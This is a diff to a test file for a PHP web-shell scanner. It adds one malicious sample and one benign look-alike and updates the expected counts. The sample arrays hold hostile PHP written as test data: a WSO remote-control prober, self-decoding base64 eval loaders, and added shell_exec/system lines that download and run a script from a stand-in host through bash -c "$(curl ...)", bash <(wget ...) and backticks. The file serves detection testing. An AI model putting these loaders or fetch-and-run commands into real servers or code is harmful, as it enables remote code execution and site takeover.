@@ -48,6 +48,7 @@ const MALICIOUS: [string, string, string][] = [
   ['a panel posting WSO\'s remote-control action in lower case as a body of its own (S36C-10, -11)', '/var/www/html/x3.php', `<?php\nforeach (file('list.txt') as $u) {\n  $ch = curl_init(trim($u));\n  curl_setopt($ch, CURLOPT_POSTFIELDS, 'a=rc&p1=');\n  $r = @unserialize(curl_exec($ch));\n  if (isset($r['wso_version'])) echo $u;\n}\n`],
   ['code decoding the short base64 at its own end, its name read from $_SERVER (S36C-5, -7)', '/var/www/html/x4.php', `<?php\n$d = explode("?>", file_get_contents($_SERVER["SCRIPT_FILENAME"]), 3)[2];\n$t = strrev(base64_decode(trim($d)));\neval($t);\n?>\nOyknZGknKGNleGVfbGxlaHMgb2hjZQ==\n`],
   ['code decoding the spaced base64 after its closing tag, __FILE__ kept in a variable (S36C-6, -8)', '/var/www/html/x5.php', `<?php\n$me = __FILE__;\n$d = explode("?>", file_get_contents($me), 3)[2];\neval(strrev(base64_decode(trim($d))));\n?>\n${(Buffer.from(Array.from({ length: 2400 }, (_, i) => (i * 53 + 11) % 256)).toString('base64').match(/.{1,64}/g) ?? []).join(' ')}\n`],
+  ['a download made the shell\'s program: bash -c "$(curl ...)", bash <(wget ...), sh -c with backticks (S36C-15 to -17)', '/var/www/html/x6.php', "<?php\necho shell_exec('bash -c \"$(curl -fsSL http://dl.example.invalid/i.sh)\" 2>&1');\necho shell_exec('bash <(wget -qO- http://dl.example.invalid/i.sh) 2>&1');\nsystem(\"sh -c \\\"`wget -qO- http://dl.example.invalid/i.sh`\\\"\");\n"],
 ];
 
 const LOOKALIKES: [string, string, string][] = [
@@ -81,6 +82,7 @@ const LOOKALIKES: [string, string, string][] = [
   ['error reporting set from constants joined by & and ~, and a header printed through getenv of a name held in a variable', '/var/www/html/errs.php', `<?php\nerror_reporting(E_ALL & ~E_NOTICE | E_STRICT);\n$h = 'HTTP_USER_AGENT';\necho htmlspecialchars((string) getenv($h));\n$flags = FILTER_FLAG_STRIP_LOW | FILTER_FLAG_STRIP_HIGH;\necho filter_var('x', FILTER_UNSAFE_RAW, $flags);\n`],
   ['a contact form mailing the visitor a copy, after a loop over a template whose text has an apostrophe (S36C-1)', '/var/www/html/copy.php', `<?php\n$rows = ['name', 'email'];\nforeach ($rows as $r) { echo "<label>Visitor's $r</label>"; }\n$email = $_POST['email'];\n$message = $_POST['message'];\nmail($email, 'Copy of your message', $message . "\\n-- Example", 'From: web@example.com');\n`],
   ['a self-extracting installer checking that eval works with a literal, its archive after __halt_compiler (S36C-3)', '/var/www/html/setup.php', `<?php\nif (!@eval('return true;')) die('eval disabled');\n$zip = base64_decode(file_get_contents(__FILE__, false, null, __COMPILER_HALT_OFFSET__));\nfile_put_contents(sys_get_temp_dir() . '/cms.zip', $zip);\n__halt_compiler();\n${Buffer.from(Array.from({ length: 3000 }, (_, i) => (i * 41 + 3) % 256)).toString('base64')}`],
+  ['a panel running a vendor\'s documented installer as bash -c "$(curl -fsSL https://...)"', '/var/www/html/brew.php', "<?php\nif (verify_admin()) echo shell_exec('/bin/bash -c \"$(curl -fsSL https://raw.githubusercontent.com/example/install/HEAD/install.sh)\" 2>&1');\n"],
 ];
 
 describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () => {
@@ -90,7 +92,7 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.equal(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 39));
+  it('ran every malicious form', () => assert.equal(MALICIOUS.length, 40));
 
   for (const [name, path, src] of LOOKALIKES) {
     it(`not malicious: ${name}`, () => {
@@ -98,5 +100,5 @@ describe('scan: the techniques of held-out sets H14 and H15 (session 36)', () =>
       assert.notEqual(r.verdict, 'malicious', `${r.score}: ${r.findings.map((f) => `${f.rule} ${f.score}`).join(', ')}`);
     });
   }
-  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 30));
+  it('ran every look-alike', () => assert.equal(LOOKALIKES.length, 31));
 });
